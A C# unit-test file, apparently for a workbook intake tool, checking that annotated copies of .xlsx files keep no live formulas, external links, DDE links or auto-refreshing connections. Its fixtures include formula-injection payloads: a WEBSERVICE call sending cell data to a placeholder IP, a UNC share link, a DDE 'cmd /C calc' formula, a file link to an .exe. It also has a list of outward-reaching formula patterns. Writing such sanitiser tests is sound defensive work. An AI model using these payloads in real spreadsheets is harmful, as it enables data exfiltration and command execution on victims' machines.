using ExamDocs.Core.Findings;
using ExamDocs.Intake.Annotating;
using ExamDocs.Intake.Tests.Workbook;
using ExamDocs.Intake.Workbook;

namespace ExamDocs.Intake.Tests.Annotating;

/// <summary>An annotated copy takes nothing from outside when it is opened, whatever the workbook did.</summary>
public sealed class LiveContentTests
{
    private const string Sheet = "Rope bridges";
    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private const string Links = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    [Theory]
    [InlineData("WEBSERVICE(\"http://203.0.113.9/?\"&amp;A1)")]
    [InlineData("HYPERLINK(\"\\\\203.0.113.9\\share\",\"id\")")]
    [InlineData("[1]Sheet1!A1")]
    [InlineData("cmd|'/C calc'!A0")]
    [InlineData("A1&amp;\"x\"")]
    public void No_formula_is_left_and_its_result_stands_in_its_place(string formula)
    {
        foreach (var marked in new[] { Sheet, "Diary" })
        {
            var before = new XlsxFile()
                .Sheet(
                    Sheet,
                    XlsxFile.Row("id", "description", "cleanings")
                        + $"<row><c t=\"str\"><f>{formula}</f><v>B-1</v></c><c t=\"str\"><f t=\"shared\" "
                        + $"si=\"0\">{formula}</f><v/></c><c><f>1+1</f><v>2</v></c><c><f>{formula}</f></c></row>"
                )
                .Sheet("Diary", "")
                .Stream()
                .ToArray();
            var found = new Annotated().At(marked, "A1");
            var after = found.Copy(before);
            Assert.DoesNotContain("<f", Text(after, "xl/worksheets/sheet0.xml"), StringComparison.Ordinal);
            Assert.Empty(CopyDifference.Of(before, after, found.Cells));
            var content = WorkbookReader.Read(new MemoryStream(after), "kit.xlsx");
            Assert.Equal(TreeText.Of(WorkbookReader.Read(new MemoryStream(before), "kit.xlsx").Root!), TreeText.Of(content.Root!));
            Assert.Contains(content.Findings, f => f.Code is "INT022");
        }
    }

    /// <summary>Left empty, an answer that a formula was to give would be missing without a word where it need not be given.</summary>
    [Fact]
    public void A_formula_without_a_result_does_not_become_an_empty_cell()
    {
        var before = new XlsxFile()
            .Sheet(Sheet, XlsxFile.Row("id", "pinch") + "<row><c t=\"inlineStr\"><is><t>B-1</t></is></c><c><f>X9</f><v></v></c></row>")
            .Stream()
            .ToArray();
        Assert.Equal("INT024", Errors(before));
        Assert.Equal("INT023", Errors(new Annotated().At(Sheet, "B2").Copy(before)));
        Assert.Equal("INT023", Errors(new Annotated().At(Sheet, "A1").Copy(before)));
    }

    [Fact]
    public void Links_to_other_workbooks_names_and_conditions_take_nothing_from_outside()
    {
        var sheet =
            $"<worksheet xmlns=\"{Main}\" xmlns:r=\"{Links}\"><sheetData>{XlsxFile.Row("id")}</sheetData>"
            + "<conditionalFormatting sqref=\"A1\"><cfRule "
            + "type=\"expression\"><formula>[1]S!A1=1</formula></cfRule></conditionalFormatting>"
            + "<dataValidations><dataValidation sqref=\"B1\"><formula1>WEBSERVICE(\"http://203.0.113.9\")</formula1></dataValidation>"
            + "<dataValidation sqref=\"B2\"><formula1>\"fit|withdraw,[1]\"</formula1></dataValidation></dataValidations>"
            + "<hyperlinks><hyperlink ref=\"A1\" r:id=\"h1\"/><hyperlink ref=\"A2\" r:id=\"h2\"/></hyperlinks></worksheet>";
        var parts = new ZipParts(
            new XlsxFile { LinksOthers = true }
                .SheetPart(Sheet, sheet)
                .Part(
                    "xl/worksheets/_rels/sheet0.xml.rels",
                    Relations(("h1", "hyperlink", "file:///C:/kit.exe"), ("h2", "hyperlink", "https://example.org/"))
                )
                .Part(
                    "xl/externalLinks/externalLink1.xml",
                    $"<externalLink xmlns=\"{Main}\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc\"/></externalLink>"
                )
                .Part(
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    Relations(("x1", "externalLinkPath", "file://203.0.113.9/share/a.xlsx"))
                )
                .Part(
                    "xl/connections.xml",
                    $"<connections xmlns=\"{Main}\"><connection id=\"1\" refreshOnLoad=\"1\" interval=\"5\"><dbPr "
                        + "connection=\"Provider=X;Data Source=203.0.113.9\" command=\"SELECT 1\"/><webPr "
                        + "url=\"http://203.0.113.9\"/></connection></connections>"
                )
                .Stream()
                .ToArray()
        ).Replace(
            "xl/workbook.xml",
            "</sheets>",
            "</sheets><externalReferences><externalReference r:id=\"x\"/></externalReferences><definedNames><definedName "
                + "name=\"Far\">[1]S!A1</definedName><definedName name=\"Near\">Sheet1!A1</definedName></definedNames>"
        );
        var after = new Annotated().At(Sheet, "A1").Copy(parts.File());

        var copy = new ZipParts(after);
        var all = string.Concat(copy.Names.Select(n => System.Text.Encoding.UTF8.GetString(copy.Bytes(n))));
        Assert.DoesNotContain("203.0.113.9", all, StringComparison.Ordinal);
        Assert.DoesNotContain("ddeLink", all, StringComparison.Ordinal);
        Assert.DoesNotContain("externalReference", all, StringComparison.Ordinal);
        Assert.DoesNotContain("kit.exe", all, StringComparison.Ordinal);
        Assert.DoesNotContain("externalLink", all, StringComparison.Ordinal);
        foreach (
            var kept in new[]
            {
                "https://example.org/",
                "<definedName name=\"Far\">#REF!</definedName>",
                "<definedName name=\"Near\">Sheet1!A1</definedName>",
                "<formula>#REF!</formula>",
                "<formula1>#REF!</formula1>",
                "\"fit|withdraw,[1]\"",
                "refreshOnLoad=\"0\"",
                "interval=\"0\"",
                "connection=\"\"",
                "command=\"\"",
                "url=\"\"",
            }
        )
            Assert.Contains(kept, all, StringComparison.Ordinal);
        Assert.Null(WorkbookReader.Read(new MemoryStream(after), "kit.xlsx").Unreadable);
    }

    [Theory]
    [InlineData("A1+B1", false)]
    [InlineData("SUM(Table1[Load])", false)]
    [InlineData("\"a|b\"", false)]
    [InlineData("OR(A1=\"fit\",A1=\"withdraw\")", false)]
    [InlineData("COPY(A1)", false)]
    [InlineData("'[2]Bob''s list'!$A$1", true)]
    [InlineData("_xlfn.WEBSERVICE (A1)", true)]
    [InlineData("IF(A1,rtd(\"x\",,\"y\"),0)", true)]
    [InlineData("\"\\\\\"&A1&\"\\x\"", true)]
    [InlineData("_xlfn.IMAGE(A1)", true)]
    [InlineData("Excel|'[a.xlsx]S'!R1C1", true)]
    public void What_reaches_beyond_the_workbook_is_known(string formula, bool isBeyond) => Assert.Equal(isBeyond, Reach.IsBeyond(formula));

    /// <summary>A spreadsheet program opens the copy and finds values, not formulas.</summary>
    [Fact]
    public void A_spreadsheet_program_finds_no_formula_in_the_copy()
    {
        LibreOffice.SkipWhereMissing();
        var cells = FlatSpreadsheet.Cells(
            LibreOffice.Save("fods", new Annotated().At(OfficeWorkbook.Sheet, "A2").Copy(OfficeWorkbook.Make()))[0]
        );
        Assert.All(cells.Values, c => Assert.Null(c.Formula));
        Assert.Equal("BRG-1-B", cells[OfficeWorkbook.Sheet + "!A3"].Text);
        Assert.Equal("50", cells["Bob's list!A3"].Text);
    }

    private static string Relations(params (string Id, string Kind, string Target)[] links) =>
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + string.Concat(
            links.Select(l => $"<Relationship Id=\"{l.Id}\" Type=\"{Links}/{l.Kind}\" Target=\"{l.Target}\" TargetMode=\"External\"/>")
        )
        + "</Relationships>";

    private static string Text(byte[] workbook, string part) => System.Text.Encoding.UTF8.GetString(new ZipParts(workbook).Bytes(part));

    private static string Errors(byte[] workbook) =>
        string.Join(
            ' ',
            WorkbookReader
                .Read(new MemoryStream(workbook), "kit.xlsx")
                .Findings.Where(f => f.Severity is Severity.Error)
                .Select(f => f.Code)
        );
}
